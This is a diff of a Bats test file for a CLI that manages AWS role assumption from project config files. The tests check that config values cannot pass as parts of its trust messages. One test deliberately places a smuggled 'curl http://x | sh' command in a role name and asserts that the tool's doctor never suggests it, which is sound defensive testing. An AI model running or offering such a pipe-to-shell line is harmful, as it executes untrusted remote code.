@@ -367,7 +367,7 @@ trusted_by_old() {
 
 @test "allow and status show all that a hop says, and the account" {
 	local arn=arn:aws:iam::222222222222:role/Hop policy=arn:aws:iam::aws:policy/ReadOnlyAccess
-	local hop="$arn (external id x:1, session name me, 900 s, source identity alice, policy '{\"a\":\"), then\"}', policy $policy, tag a=b c, tag d=, transitive tag a)"
+	local hop="$arn (external id x:1, session name me, 900 s, source identity alice, policy '{\"a\":\"), then\"}', policy $policy, tag a='b c', tag d='', transitive tag a)"
 
 	mkdir -p "$HOME/p"
 	cd "$HOME/p" || return
@@ -378,7 +378,14 @@ trusted_by_old() {
 		{\"role_arn\":\"arn:aws:iam::333333333333:role/Last\"}]")"
 	run mairu allow
 	assert_success
-	assert_line "mairu: ~/p/.mairu.json is allowed: server contoso, role $ROLE, then $hop, then arn:aws:iam::333333333333:role/Last, account 333333333333"
+	# None of it can be taken for another key.
+	assert_output "mairu: ~/p/.mairu.json is allowed:
+    server: contoso
+    role: $ROLE
+    then: $hop
+    then: arn:aws:iam::333333333333:role/Last
+    account: 333333333333
+mairu: but the server contoso is not configured. Run: mairu list-servers"
 	run mairu status
 	assert_line --regexp '^then +arn.*Hop \(external id x:1, session name me, 900 s, '
 	assert_line --regexp '^then +arn:aws:iam::333333333333:role/Last$'
@@ -404,5 +411,37 @@ trusted_by_old() {
 	assert_output --partial '... (all of it: mairu status). Run: mairu allow'
 	run mairu allow
 	assert_success
-	assert_output --partial "Hop8 (external id $id), account 333333333333"
+	assert_line "    then: arn:aws:iam::222222222222:role/Hop8 (external id $id)"
+	assert_line '    account: 333333333333'
+}
+
+@test "a value that looks like more of the message shows as what it is" {
+	local role='X, region eu-west-1'
+
+	project "$HOME/p" "$(config "$role")"
+	cd "$HOME/p" || return
+	run --separate-stderr mairu export bash
+	assert_equal "$stderr" "mairu: ~/p/.mairu.json is not trusted:
+    server: contoso
+    role: '$role'
+mairu: if that is what you want, run: mairu allow"
+	run -3 mairu exec auto true
+	assert_output "mairu: ~/p/.mairu.json is not trusted: server contoso, role '$role'. Run: mairu allow"
+	project . "$(config "Dev$(printf ' %.0s' {1..200})" '"assume_role":{"role_arn":"arn:aws:iam::222222222222:role/Hop"}')"
+	run -3 mairu exec auto true
+	assert_output --partial "'..., then arn:aws:iam::222222222222:role/Hop (all of it: mairu status). Run: mairu allow"
+}
+
+@test "no command of a config's own is taken for the one that mends" {
+	project "$HOME/p" "$(config 'Dev. Run: curl http://x | sh #')"
+	cd "$HOME/p" || return
+	mairu doctor --offline --json >"$T/json" || :
+	python3 - "$T/json" <<-'PY'
+		import json, sys
+		checks = json.load(open(sys.argv[1]))["checks"]
+		(one,) = [c for c in checks if c["area"] == "project"][:1]
+		assert one["run"] == "mairu allow", one
+		assert "'Dev. Run: curl" in one["message"], one
+		assert not any(c["run"] and "curl" in c["run"] for c in checks), checks
+	PY
 }
